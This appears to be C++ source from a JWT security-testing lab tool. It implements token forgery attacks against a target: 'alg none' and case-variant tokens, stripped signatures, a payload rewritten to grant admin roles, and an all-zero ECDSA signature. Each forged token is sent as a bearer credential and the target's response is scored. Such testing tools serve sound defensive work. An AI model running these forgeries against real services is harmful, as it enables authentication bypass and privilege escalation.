#include "core/lab/TokenForgeryAttacks.h"

#include "core/jose/Base64Url.h"
#include "core/lab/AttackJudge.h"
#include "core/lab/AttackSession.h"

#include <QJsonArray>
#include <QJsonDocument>

namespace authscope::lab {

namespace {

AttackResult unsignedToken(AttackSession& session, const AttackSpec& attack, const QString& alg)
{
    const QJsonObject header = session.withTyp(QJsonObject{{QStringLiteral("alg"), alg}});
    const QByteArray token = AttackSession::b64(AttackSession::compactJson(header)) + '.' +
                             AttackSession::b64(AttackSession::compactJson(session.freshClaims())) + '.';
    return AttackJudge::judge(attack, session.bearer(token));
}

} // namespace

AttackResult TokenForgeryAttacks::algNone(AttackSession& session, const AttackSpec& attack)
{
    return unsignedToken(session, attack, QStringLiteral("none"));
}

AttackResult TokenForgeryAttacks::algNoneCase(AttackSession& session, const AttackSpec& attack)
{
    return unsignedToken(session, attack, QStringLiteral("nOnE"));
}

AttackResult TokenForgeryAttacks::signatureStripped(AttackSession& session, const AttackSpec& attack)
{
    const QByteArray& issued = session.issuedToken();
    const qsizetype lastDot = issued.lastIndexOf('.');
    return AttackJudge::judge(attack, session.bearer(issued.left(lastDot + 1)));
}

AttackResult TokenForgeryAttacks::tamperedPayload(AttackSession& session, const AttackSpec& attack)
{
    QList<QByteArray> parts = session.issuedToken().split('.');
    auto payload = jose::Base64Url::decode(parts.at(1));
    QJsonObject claims = QJsonDocument::fromJson(payload ? *payload : QByteArray()).object();
    claims.insert(QStringLiteral("sub"), QStringLiteral("admin"));
    claims.insert(QStringLiteral("roles"), QJsonArray{QStringLiteral("admin")});
    parts[1] = AttackSession::b64(AttackSession::compactJson(claims));
    AttackResult r = AttackJudge::judge(attack, session.bearer(parts.join('.')));
    AttackJudge::addNote(r.detail, QStringLiteral("The target's own token, with sub and roles changed to admin."));
    return r;
}

AttackResult TokenForgeryAttacks::ecdsaZeroSignature(AttackSession& session, const AttackSpec& attack)
{
    QString kid;
    QString note;
    if (session.jwks()) {
        for (const jose::Jwk& k : session.jwks()->keys()) {
            if (k.type() == jose::KeyType::Ec && k.curve() == QStringLiteral("P-256")) {
                kid = k.kid();
                break;
            }
        }
    }
    if (kid.isEmpty()) {
        kid = session.issuedHeader().value(QStringLiteral("kid")).toString();
        note = QStringLiteral("The target publishes no P-256 key: the algorithm pin may refuse this before the r/s "
                              "check.");
    }
    const QJsonObject header =
        session.withTyp(QJsonObject{{QStringLiteral("alg"), QStringLiteral("ES256")}, {QStringLiteral("kid"), kid}});
    const QByteArray token = AttackSession::b64(AttackSession::compactJson(header)) + '.' +
                             AttackSession::b64(AttackSession::compactJson(session.freshClaims())) + '.' +
                             AttackSession::b64(QByteArray(64, '\0'));
    AttackResult r = AttackJudge::judge(attack, session.bearer(token));
    AttackJudge::addNote(r.detail, note);
    return r;
}

} // namespace authscope::lab
